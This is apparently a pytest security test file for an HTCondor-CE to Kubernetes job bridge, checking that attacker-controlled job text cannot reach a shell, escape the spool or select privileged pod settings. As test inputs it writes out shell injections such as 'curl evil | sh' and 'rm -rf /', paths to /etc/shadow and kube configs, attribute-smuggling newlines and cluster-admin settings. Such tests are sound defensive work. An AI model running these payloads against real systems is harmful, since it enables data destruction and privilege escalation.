"""Injection: job text must never reach a shell, a path outside the job's spool, a label, a name,
another job's pod, or a setting the site did not choose (issue 9 "Injection").

Every job attribute is attacker-controlled text: the factory writes the job ad and Condor-C
carries it to the CE as is (htcondor-ce.md §6). The rules come from docs/design.md Decisions 1, 6 and 7,
docs/hook-protocol.md §2.2 (translate output replaces the ad; sPrintAd writes newlines raw) and
the Kubernetes `$(VAR)` expansion rule for command/args/env.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import classad2
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ce_k8s.agent.adtext import quote
from ce_k8s.agent.sandbox_io import read_sandbox
from ce_k8s.condor import wire
from ce_k8s.condor.config import CondorConfig
from ce_k8s.condor.routing import RouterConfig
from ce_k8s.condor.transform import MacroSet, Transform
from ce_k8s.hooks.finalize import UnsafePath, _target, open_in_spool
from ce_k8s.hooks.translate import translate_ad_text
from ce_k8s.pods.builder import build_manifests
from ce_k8s.pods.errors import PodBuildError
from ce_k8s.pods.jobad import JobAd
from ce_k8s.pods.names import is_dns_label, is_label_value, label_value, pod_name
from ce_k8s.pods.sandbox import SandboxItem, sandbox_plan
from ce_k8s.settings import Settings

settings.load_profile("hardening")

SPOOL = "/var/lib/condor-ce/spool"
IWD = f"{SPOOL}/5/0/cluster5.proc0.subproc0"
SETTINGS = Settings(namespace="pilots", image="pilot:1", ce_name="ce.example.org", spool=SPOOL)
SHELLS = {"sh", "bash", "/bin/sh", "/bin/bash", "/usr/bin/sh", "/usr/bin/bash", "-c"}


def routed(**extra) -> dict[str, object]:
    ad: dict[str, object] = {
        "ClusterId": 105, "ProcId": 0, "RoutedFromJobId": "5.0", "Owner": "osg01", "JobUniverse": 9,
        "K8sSourceGlobalJobId": "ce.example.org#5.0#1760000000", "K8sAttempt": 0,
        "Cmd": f"{IWD}/glidein_startup.sh", "Iwd": IWD, "x509userproxy": f"{IWD}/x509up",
    }
    ad.update(extra)
    return {k: v for k, v in ad.items() if v is not None}


def pilot_container(pod: dict) -> dict:
    return next(c for c in pod["spec"]["containers"] if c["name"] == "pilot")


# -- shells ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("cmd", ["; rm -rf /", "$(reboot)", "`id`", "a && curl evil | sh", "x\ny"])
def test_cmd_never_reaches_a_shell(cmd):
    """docs/design.md Decision 7 / builder: the executable runs in exec form from the Secret; a hostile
    Cmd is at most a strange file name inside the spool, never a shell command line."""
    try:
        built = build_manifests(routed(Cmd=cmd, Arguments="; rm -rf / $(HOME) `id`"), SETTINGS)
    except PodBuildError as exc:
        assert exc.code in ("sandbox-path-outside-spool", "missing-executable", "bad-arguments"), exc
        return
    for c in built.pod["spec"]["containers"] + built.pod["spec"].get("initContainers", []):
        argv = list(c.get("command", [])) + list(c.get("args", []))
        assert not (SHELLS & set(argv[:2])), argv
    c = pilot_container(built.pod)
    assert c["args"][:2] == [";", "rm"]                       # words, not a command line
    assert "$$(HOME)" in c["args"]                             # Kubernetes $(VAR) expansion disarmed


def test_environment_dollar_text_is_not_expanded_by_kubernetes():
    """Kubernetes expands `$(VAR)` in env values, command and args; job text has every `$`
    doubled so `$(HOME)` and `$$(SECRET)` reach the pilot verbatim."""
    built = build_manifests(routed(Environment="A=$(HOME) B=$(CE_K8S_SECRET) C='x y'"), SETTINGS)
    env = {e["name"]: e.get("value") for e in pilot_container(built.pod)["env"]}
    assert env["A"] == "$$(HOME)" and env["B"] == "$$(CE_K8S_SECRET)" and env["C"] == "x y"


# -- paths ------------------------------------------------------------------------------------

@pytest.mark.parametrize("attr,value", [
    ("x509userproxy", "../../etc/shadow"),
    ("x509userproxy", "/etc/shadow"),
    ("x509userproxy", f"{IWD}/../../../../../../etc/shadow"),
    ("x509userproxy", f"{SPOOL}/6/0/cluster6.proc0.subproc0/x509up"),   # another job's spool
    ("x509userproxy", f"{IWD}/\x00/etc/shadow"),
    ("TransferInput", "a,../../../../etc/passwd"),
    ("TransferInput", "/root/.kube/config"),
    ("Cmd", "../../../../usr/bin/env"),
    ("ScitokensFile", f"{IWD}/../../../1/0/cluster1.proc0.subproc0/token"),
])
def test_paths_outside_the_jobs_spool_are_refused(attr, value):
    """sandbox_plan: every file must lie inside the job's own spool directory, computed from the
    job id and CE_K8S_SPOOL, never from Iwd alone (ce_k8s/pods/sandbox.py)."""
    ad = JobAd(routed(**{attr: value}))
    if attr == "ScitokensFile":
        # a token outside the spool is the factory's own (not transferred): left out, not read
        assert all("token" not in item.path for item in sandbox_plan(ad, SETTINGS))
        return
    with pytest.raises(PodBuildError) as info:
        sandbox_plan(ad, SETTINGS)
    assert info.value.code == "sandbox-path-outside-spool"


def test_iwd_pointing_elsewhere_does_not_move_the_spool():
    """`Iwd = /etc` with relative names still resolves against /etc and is refused."""
    with pytest.raises(PodBuildError, match="not inside the job's spool"):
        sandbox_plan(JobAd(routed(Iwd="/etc", x509userproxy="shadow")), SETTINGS)


def test_symlink_in_the_spool_is_not_followed_by_the_agent(tmp_path):
    """sandbox_io: the agent (root) refuses a spooled file that is a symlink, or sits below a
    symlinked directory, even when the link stays lexically inside the spool."""
    spool = tmp_path / "spool"
    job = spool / "5" / "0" / "cluster5.proc0.subproc0"
    job.mkdir(parents=True)
    secret = tmp_path / "shadow"
    secret.write_text("root:$6$hash")
    (job / "x509up").symlink_to(secret)
    (job / "dir").symlink_to(tmp_path)
    for path in (job / "x509up", job / "dir" / "shadow"):
        with pytest.raises(PodBuildError) as info:
            read_sandbox([SandboxItem("x509up", str(path))], str(spool), 1 << 20)
        assert info.value.code == "sandbox-path-outside-spool"


def test_finalize_never_writes_through_a_symlink_or_outside_the_spool(tmp_path):
    """finalize (runs as the job owner, hook-protocol.md §2.4) opens each component with O_NOFOLLOW below the spool
    the agent reports; `Out = ../../etc/passwd` and a planted symlink both fail."""
    root = tmp_path / "spool"
    job = root / "5" / "0" / "cluster5.proc0.subproc0"
    job.mkdir(parents=True)
    victim = tmp_path / "victim"
    victim.write_text("unchanged")
    (job / "_condor_stdout").symlink_to(victim)
    (root / "5" / "link").symlink_to(tmp_path)
    with pytest.raises(UnsafePath):
        _target(str(job), "../../../../etc/passwd", str(root))
    with pytest.raises(UnsafePath):
        _target(str(job), "/etc/passwd", str(root))
    for parts in (_target(str(job), "_condor_stdout", str(root)), ["5", "link", "victim"]):
        with pytest.raises(UnsafePath):
            open_in_spool(str(root), parts)
    assert victim.read_text() == "unchanged"


# -- names, labels, other jobs' pods -----------------------------------------------------------

@given(st.text(min_size=1, max_size=80), st.text(min_size=1, max_size=80))
def test_distinct_global_job_ids_never_share_a_pod_name(a, b):
    """docs/design.md Decision 5: the pod name hashes the whole GlobalJobId, so a crafted id that copies
    another job's readable part (`ce#1.0#...`) still gets its own pod."""
    if a != b:
        assert pod_name(a, 0) != pod_name(b, 0)
    assert is_dns_label(pod_name(a, 0))


def test_crafted_global_job_id_that_mimics_another_job():
    victim = "ce.example.org#1234.0#1760000000"
    for crafted in ("ce.example.org#1234.0#1760000001", "evil#1234.0#1760000000", "ce.example.org#01234.00#1760000000",
                    "ce.example.org#1234.0#1760000000 ", "CE.EXAMPLE.ORG#1234.0#1760000000"):
        assert pod_name(crafted, 0) != pod_name(victim, 0)
        assert pod_name(crafted, 0).startswith("ce-1234-0-a0-")


@pytest.mark.parametrize("owner", ["evil\nkey: value", "a" * 300, "root/../../x", "x\"y", "ünï", "-x-", "",
                                   "a,b=c", "$(HOME)"])
def test_owner_text_never_breaks_labels_or_annotations(owner):
    """Labels are sanitised (valid, distinct: names.label_value); annotations are one line."""
    built = build_manifests(routed(Owner=owner), SETTINGS)
    meta = built.pod["metadata"]
    for key, value in meta["labels"].items():
        assert is_label_value(value), (key, value)
    for key, value in meta.get("annotations", {}).items():
        assert "\n" not in value and "\r" not in value, (key, value)
    if owner:
        assert meta["labels"]["ce-k8s.htcondor.org/owner"] == label_value(owner)


@given(st.text(max_size=100), st.text(max_size=100))
def test_label_sanitising_keeps_different_inputs_apart(a, b):
    """Two different owners never collapse to one label value (so one cannot select the other's pods)."""
    assert is_label_value(label_value(a))
    if a != b:
        assert label_value(a) != label_value(b)


# -- route macros and the routing pipeline ------------------------------------------------------

def test_route_macro_with_job_text_cannot_add_statements():
    """`$(MY.x)` is expanded per line when the line runs (hook-protocol.md §4): a newline or `SET` in job text
    stays inside the one value, and never becomes a new transform statement."""
    t = Transform.parse("R", 'SET Note "from $(MY.Frontend)"\nSET K8sNamespace "pilots"\n')
    ad = classad2.ClassAd()
    ad["Frontend"] = 'x"\nSET K8sNamespace "kube-system'
    t.apply(ad, MacroSet(None))
    assert ad.eval("K8sNamespace") == "pilots"


def test_evalset_strcat_is_not_injectable_but_set_with_macro_is_checked_by_the_builder():
    """Route authors should build values with EVALSET + strcat (docs/security.md): job text then
    stays data. Where a route does interpolate job text into SET, the builder still refuses a
    namespace that is not a DNS label."""
    hostile = 'x" == "x" ? "kube-system" : "'
    t = Transform.parse("R", 'EVALSET K8sNamespace strcat("vo-", MY.Frontend)\n')
    ad = classad2.ClassAd()
    ad["Frontend"] = hostile
    t.apply(ad, MacroSet(None))
    assert ad.eval("K8sNamespace") == "vo-" + hostile
    with pytest.raises(PodBuildError) as info:
        build_manifests(routed(K8sNamespace=ad.eval("K8sNamespace")), SETTINGS)
    assert info.value.code == "bad-k8s-value"


def _route_through_shipped_config(job: classad2.ClassAd) -> dict:
    """Source job → translate hook → the shipped routes and transforms → the pod the agent builds."""
    cfg = CondorConfig.load(None)
    router = RouterConfig.from_config(cfg)
    route = router.choose_route(job)
    assert route is not None
    out = translate_ad_text(route.route_info_line(), wire.sprint_ad(job))
    routed_job = router.route_job(job, route, wire.parse_hook_output(out))
    assert not routed_job.failed, routed_job.errors
    return build_manifests(JobAd(wire.evaluate_ad(routed_job.ad)), Settings.from_config(cfg)).pod


def _source_job(**extra) -> classad2.ClassAd:
    from ce_k8s.sim.pilots import make_pilot

    job = classad2.ClassAd()
    for k, v in make_pilot(1, "cpu8").ad.items():
        job[k] = v
    for k, v in {"ClusterId": 5, "ProcId": 0, "GlobalJobId": "ce#5.0#1", "QDate": 1, "JobStatus": 1, "Iwd": IWD,
                 "Cmd": f"{IWD}/glidein_startup.sh", "x509userproxy": f"{IWD}/x509up", **extra}.items():
        job[k] = v
    return job


HOSTILE_SETTINGS = {
    "K8sNamespace": "kube-system",
    "K8sServiceAccount": "cluster-admin",
    "K8sAutomountToken": True,
    "K8sVolumes": json.dumps({"volumes": [{"name": "host", "hostPath": {"path": "/"}}],
                              "volumeMounts": [{"name": "host", "mountPath": "/host"}]}),
    "K8sPriorityClass": "system-node-critical",
    "K8sNodeSelector": classad2.ClassAd({"kubernetes.io/hostname": "control-plane"}),
}


def test_factory_cannot_choose_kubernetes_settings_by_submitting_k8s_attributes():
    """docs/design.md Decision 1: Kubernetes settings are *route* settings. The routed ad starts as the
    factory's job ad (hook-protocol.md §2.2), so a `K8s*` attribute the factory submits would otherwise survive
    wherever the route does not SET it: namespace kube-system, a cluster-admin token, the node's
    root filesystem. The translate hook drops every incoming K8s* attribute."""
    pod = _route_through_shipped_config(_source_job(**HOSTILE_SETTINGS))
    spec = pod["spec"]
    assert pod["metadata"]["namespace"] != "kube-system"
    assert spec.get("serviceAccountName") in (None, "", "default")
    assert spec.get("automountServiceAccountToken") is False
    assert not any("hostPath" in v for v in spec.get("volumes", []))
    assert spec.get("priorityClassName") != "system-node-critical"
    assert "control-plane" not in json.dumps(spec.get("nodeSelector") or {})


def test_newline_in_a_job_string_cannot_smuggle_an_attribute_through_translate():
    """sPrintAd writes a string's raw newline as is (hook-protocol.md §2.2), so `Foo = "x<NL>Owner = "root""`
    arrives as two lines; the second must not become an attribute of the routed ad (it could
    replace Owner, a VO name the transforms key on, or a K8s* setting)."""
    job = _source_job(Zzz='x\nOwner = "root"', Aaa='y\nx509UserProxyVOName = "cms"\nK8sNamespace = "kube-system"',
                      Owner="osg01")
    out = translate_ad_text('[ Name = "Pilots"; TargetUniverse = 9 ]', wire.sprint_ad(job))
    ad = wire.parse_hook_output(out)
    assert ad.eval("Owner") == "osg01"
    assert "x509UserProxyVOName" not in ad
    assert "K8sNamespace" not in ad
    assert "Zzz" not in ad and "Aaa" not in ad       # the broken attributes are dropped (hook-protocol.md §2.2 note)


def test_update_output_value_with_newline_is_one_safe_line():
    """Agent → update hook: any text (pod messages are cluster-controlled) is rendered as one
    old-syntax string literal the router reads back unchanged, quotes escaped (hook-protocol.md §2.1, §8)."""
    for text in ['a\nJobStatus = 4', 'x"\nOwner = "root', "back\\slash\\", "\x00\r\u2028", "é" * 5000]:
        line = f"HoldReason = {quote(text)}\n"
        assert line.count("\n") == 1
        ad = wire.parse_hook_output(line)
        assert list(ad.keys()) == ["HoldReason"]


def test_no_module_outside_the_simulator_can_start_a_process():
    """Security by default: nothing in ce_k8s (except the test beds: the simulators in ce_k8s/sim, the
    real environments in ce_k8s/real and the demos on them in ce_k8s/demos) imports subprocess or
    calls os.system/exec*/spawn*, so job text has no path to a shell."""
    root = Path(__file__).resolve().parents[2] / "ce_k8s"
    # The one exception: HTCondor's own configuration reader runs in a child (sys.executable on a
    # fixed script, argv = subsystem and config path; no shell, no job text), docs/routes.md.
    # The pilot's entry point (ce_k8s/pilot/entrypoint.py) runs in the pilot's container, never on
    # the CE: it starts condor_master and condor_status by absolute path with fixed argv lists (the
    # only value in them is its own uuid4 hex), no shell; docs/pilot.md.
    allowed = {Path("condor/htconfig.py"), Path("pilot/entrypoint.py")}
    offenders = []
    for path in root.rglob("*.py"):
        if path.relative_to(root).parts[0] in ("sim", "real", "demos") or path.relative_to(root) in allowed:
            continue
        text = path.read_text()
        for needle in ("import subprocess", "os.system(", "os.popen(", "os.exec", "os.spawn", "shell=True",
                       "pty.spawn", "posix_spawn"):
            if needle in text:
                offenders.append(f"{path.relative_to(root)}: {needle}")
    assert offenders == []
    assert os.path.isdir(root)
